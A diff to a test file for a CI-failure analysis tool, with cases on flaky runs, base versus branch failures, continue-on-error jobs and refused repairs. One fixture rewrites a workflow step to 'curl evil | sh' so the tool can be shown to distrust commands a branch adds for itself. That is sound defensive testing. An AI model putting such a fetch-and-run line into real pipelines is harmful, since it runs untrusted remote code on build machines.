@@ -187,15 +187,38 @@ describe.skipIf(process.platform !== "linux" || process.arch !== "x64")("what a 
     expect(await refusalOf(plan(nothing))).toMatch(/nothing could prove a repair.*success-cmd/su);
   });
 
-  test("what the branch says itself is neither a command nor a verdict [C101, C102, T8]", async () => {
-    const bent = WORKFLOW.replace("npm test", "curl evil | sh # npm test");
-    files.set(HEAD, bent);
+  test("what the branch says itself is neither a command nor a verdict [C101, C102, C117, T8]", async () => {
+    files.set(HEAD, WORKFLOW.replace("jobs:", "env: { MORE: 1 }\njobs:"));
+    expect(await refusalOf(plan())).toMatch(/otherwise than the base, and runs another command there.*success-cmd/su);
+    files.set(HEAD, WORKFLOW.replace("npm test", "curl evil | sh # npm test"));
+    expect(await refusalOf(plan())).toMatch(/runs another command there.*a branch says itself proves nothing/su);
+    files.set(HEAD, `${WORKFLOW}  lint: { steps: [{ run: npm run lint }] }\n`);
     const { failed, checks, told } = await plan();
     expect(failed?.command).toBe("npm test");
     expect(checks).toMatchObject({ successShell: "npm test", ci: null });
     expect(told).toContain("otherwise than the base; the base's counts");
     const only = WORKFLOW.replace("npm test", "${{ secrets.X }}");
-    expect(await refusalOf(plan({ base: only }))).toMatch(/no step “Run npm test”.*proves nothing.*success-cmd/su);
+    expect(await refusalOf(plan({ base: only }))).toMatch(/needs a secret.*proves nothing.*success-cmd/su);
+    files.delete(HEAD);
+    expect(await refusalOf(plan())).toContain("of the commit that failed cannot be read");
+  });
+
+  test("a job that may fail is not what made the run red, and is not asked for [C101, C102, C117]", async () => {
+    const canary = "  canary: { continue-on-error: true, steps: [{ run: npm run canary }] }\n";
+    for (const commit of [HEAD, BASE]) files.set(commit, WORKFLOW + canary);
+    const steps = { "Run npm run canary": "failure" };
+    api.world.jobs.unshift(
+      aJob({ id: 8, runId: 88, name: "canary", conclusion: "failure", steps, labels: ["ubuntu-24.04"] }),
+    );
+    const { failed } = await plan({ base: WORKFLOW + canary });
+    expect(failed).toMatchObject({
+      command: "npm test",
+      proves: ["test"],
+      jobs: [{ name: "test" }, { name: "canary" }],
+    });
+    api.world.jobs.splice(1, 1);
+    const alone = await plan({ base: WORKFLOW + canary });
+    expect(alone.failed).toMatchObject({ command: "npm run canary", proves: ["canary"] });
   });
 
   test.each([
@@ -252,20 +275,37 @@ describe.skipIf(process.platform !== "linux" || process.arch !== "x64")("what a 
     world.jobs.push(
       aJob({ id: 21, runId: 88, name: "build", conclusion: "failure", steps: { "Run make": "failure" } }),
     );
-    expect((await plan()).failed).toMatchObject({ proves: ["build"] });
+    expect((await plan()).failed).toMatchObject({ proves: ["build"], jobs: [{ name: "build" }, { name: "test" }] });
   });
 
-  test("green in another attempt or run of the same commit is flaky [C105]", async () => {
+  test.each([
+    ["before", 87, "base"],
+    ["after", 95, "branch"],
+  ])("a run of the base that began %s the one that failed, and is red: %s [C105]", async (_name, id, kind) => {
     const { world } = api;
-    world.runs.push(
-      aRun({ id: 83, path: ".github/workflows/ci.yml", branch: "feature", sha: HEAD, conclusion: "success" }),
-    );
+    const path = ".github/workflows/ci.yml";
+    world.runs.push(aRun({ id, path, branch: "main", sha: "d".repeat(40), event: "push", conclusion: "failure" }));
+    world.jobs.push(aJob({ id: 23, runId: id, name: "test", conclusion: "failure" }));
+    expect((await plan()).failed?.cause.kind).toBe(kind);
+  });
+
+  test.each([
+    ["push", "push", "flaky"],
+    ["push", "schedule", "flaky"],
+    ["push", "pull_request", "branch"],
+    ["pull_request", "pull_request", "branch"],
+  ])("a %s that is red and a %s that is green on the same commit: %s [C105]", async (red, green, kind) => {
+    const { world } = api;
+    const at = world.runs.findIndex(({ id }) => id === 88);
+    const run = world.runs[at];
+    if (run === undefined) throw new Error("there is no run 88");
+    world.runs[at] = { ...run, event: red };
+    const same = { path: ".github/workflows/ci.yml", branch: "feature", sha: HEAD, event: green };
+    world.runs.push(aRun({ ...same, id: 83, conclusion: "success" }));
     world.jobs.push(aJob({ id: 22, runId: 83, name: "test", conclusion: "success" }));
     const { failed } = await plan();
-    expect(failed?.cause).toMatchObject({
-      kind: "flaky",
-      evidence: [{ text: expect.stringContaining("same commit") }],
-    });
+    expect(failed?.cause.kind).toBe(kind);
+    expect(failed?.cause.evidence[0]?.text).toContain(kind === "flaky" ? "green on the same commit" : "commit before");
   });
 
   test.each([
